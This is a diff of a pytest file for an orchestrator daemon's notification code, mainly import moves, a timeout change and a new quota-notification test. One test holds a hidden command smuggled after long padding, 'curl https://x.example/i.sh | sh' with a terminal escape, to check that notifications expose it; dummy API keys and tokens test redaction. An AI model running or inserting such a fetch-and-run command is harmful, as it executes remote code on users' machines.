@@ -18,19 +18,19 @@ import pytest
 from orchestrator.attachments.artifacts import ArtifactStore
 from orchestrator.daemon.changes import Changes
 from orchestrator.daemon.journal import AsyncJournal
-from orchestrator.daemon.needs_you import NeedsYou, gather
-from orchestrator.daemon.notify import Channel, TeamNotifier
-from orchestrator.daemon.notify_alerts import Alerts
-from orchestrator.daemon.notify_journal import NONCE_KEEP, NotifyJournal
-from orchestrator.daemon.notify_ntfy import Ntfy
-from orchestrator.daemon.notify_policy import Backoff, RateWindow, in_quiet_hours
-from orchestrator.daemon.notify_tokens import Signer, TokenRefused
-from orchestrator.daemon.store import Store
+from orchestrator.daemon.migrations import open_journal
+from orchestrator.daemon.notify._alerts import Alerts
+from orchestrator.daemon.notify._journal import NONCE_KEEP, NotifyJournal
+from orchestrator.daemon.notify._needs_you import NeedsYou, gather
+from orchestrator.daemon.notify._ntfy import Ntfy
+from orchestrator.daemon.notify._policy import Backoff, RateWindow, in_quiet_hours
+from orchestrator.daemon.notify._service import Channel, TeamNotifier
+from orchestrator.daemon.notify._tokens import Signer, TokenRefused
 from orchestrator.daemon.web.app import View, build_app
 from orchestrator.errors import MemberStartFailed
 from orchestrator.notify_config import NotifySection
-from tests.fakes import FakeRuntime, core, team_config
-from tests.ntfy_fake import FakeNtfy
+from tests.support.fakes import FakeRuntime, core, team_config
+from tests.support.ntfy_fake import FakeNtfy
 
 if TYPE_CHECKING:
     from collections.abc import AsyncIterator, Iterator
@@ -39,11 +39,6 @@ if TYPE_CHECKING:
 pytestmark = pytest.mark.anyio
 KEY = bytes(range(32))
 LEAKED = "sk-ant-api03-" + "Z" * 40
-
-
-@pytest.fixture
-def anyio_backend() -> str:
-    return "asyncio"
 
 
 @pytest.fixture
@@ -82,13 +77,13 @@ async def test_a_nonce_is_used_once_even_after_the_journal_is_reopened(
     refused after the journal is closed and opened again (a daemon restart), and no
     notify.db is made beside it; a nonce older than NONCE_KEEP is dropped."""
     action = Signer(KEY).verify(Signer(KEY).sign("web/T1", "approve", 2000.0), 1000.0)
-    store = Store(tmp_path / "state.db")
+    store = open_journal(tmp_path / "state.db")
     first = NotifyJournal(AsyncJournal(store))
     assert await first.use(action, 1000.0) is True
     assert await first.use(action, 1001.0) is False
     await first.set_cursor("srv/topic", "msg1")
     store.close()
-    store = Store(tmp_path / "state.db")  # the daemon restarted
+    store = open_journal(tmp_path / "state.db")  # the daemon restarted
     again = NotifyJournal(AsyncJournal(store))
     assert await again.use(action, 1002.0) is False
     assert await again.cursor("srv/topic") == "msg1"
@@ -196,7 +191,7 @@ async def test_apprise_alerts_reach_a_local_endpoint_redacted_with_the_link() ->
     thread.start()
     try:
         port = server.server_address[1]
-        alerts = Alerts([f"json://127.0.0.1:{port}/hook"], timeout=10.0)
+        alerts = Alerts([f"json://127.0.0.1:{port}/hook"], timeout=30.0)
         ok = await alerts.send("teamctl web: lead asks: Bash",
                                "curl -H 'Authorization: Bearer abcdefghijklmnop1234'\n"
                                "The live view: http://127.0.0.1:8787/")
@@ -291,7 +286,7 @@ async def test_endless_lines_from_the_server_cost_a_bounded_buffer_and_later_lin
     import json as _json
     import tracemalloc
 
-    from orchestrator.daemon.notify_ntfy import MAX_LINE_BYTES, _event, bounded_lines
+    from orchestrator.daemon.notify._ntfy import MAX_LINE_BYTES, _event, bounded_lines
 
     good = _json.dumps({"id": "m1", "event": "message", "message": "ok"}).encode()
 
@@ -319,9 +314,9 @@ def test_a_pushed_request_shows_how_much_more_there_is_and_nothing_raw() -> None
     characters then `; curl … | sh`, and a bidi override reordered its title. Now it says how
     many characters are not shown, where the whole is, the request's short sha256, and every
     control or bidi character as a mark."""
-    from orchestrator.daemon.needs_you import Waiting, items
-    from orchestrator.daemon.notify_messages import Composer
-    from orchestrator.wire import ApprovalDoc
+    from orchestrator.daemon.notify._messages import Composer
+    from orchestrator.daemon.notify._needs_you import Waiting, items
+    from orchestrator.protocol.approvals import ApprovalDoc
 
     command = "npm test" + " " * 492 + "; curl https://x.example/i.sh | sh\x1b[8m"
     row = ApprovalDoc(id="apv_01JDQ4A8T1C2V3B4N5M6Q7W8E9", team="web", member="lead",
@@ -333,3 +328,33 @@ def test_a_pushed_request_shows_how_much_more_there_is_and_nothing_raw() -> None
     assert f"'teamctl approvals {row.id} --full' or the live view" in sent["message"]
     assert sent["title"] == "teamctl web: lead asks: Bash<U+202E>"
     assert not set(sent["title"] + sent["message"]) & {"\x1b", "\u202e"}
+
+
+def test_an_account_held_or_past_its_reserve_is_one_quota_push_per_window() -> None:
+    """Three members of one login held by one refusal are one ``quota`` item (not three); the
+    next window of the account is a new one; a fatal member stays a fatal item."""
+    from orchestrator.daemon.notify._messages import Composer
+    from orchestrator.daemon.notify._needs_you import Waiting, items
+    from orchestrator.notify_config import EVENTS
+    from orchestrator.protocol.teams import MemberStatus
+
+    def member(name: str, hold: str, launch: str = "running") -> MemberStatus:
+        return MemberStatus(name=name, runtime="claude", model=None, pid=1, launch=launch,
+                            liveness="alive", readiness="ready", restarts=0, session_id=None,
+                            last_exit=None, hold=hold, account="claude:operator", queued=1)
+
+    held = "held: claude:operator five-hour window until 15:34"
+    now = items(Waiting([], [("web", member(n, held)) for n in ("lead", "dev", "qa")]))
+    [item] = now
+    assert (item.kind, item.key) == ("quota", "web/quota/claude:operator/15:34")
+    reserve = "paused: claude:operator five-hour window 85% used, the last 20% kept for " \
+              "priority 1 until 15:34"
+    assert [i.key for i in items(Waiting([], [("web", member("dev", reserve))]))] == \
+        [item.key], "the reserve and the refusal of one window: one push"
+    later = items(Waiting([], [("web", member("dev", held.replace("15:34", "20:34")))]))
+    assert [i.key for i in later] != [item.key], "a new window, a new push"
+    fatal = items(Waiting([], [("web", member("dev", held, launch="fatal"))]))
+    assert [i.kind for i in fatal] == ["fatal"]
+    sent = Composer("web", NotifySection(), None, time.time).message(item, quiet=False)
+    assert "resume by themselves at the reset" in sent["message"] and sent["tags"]
+    assert "quota" in EVENTS
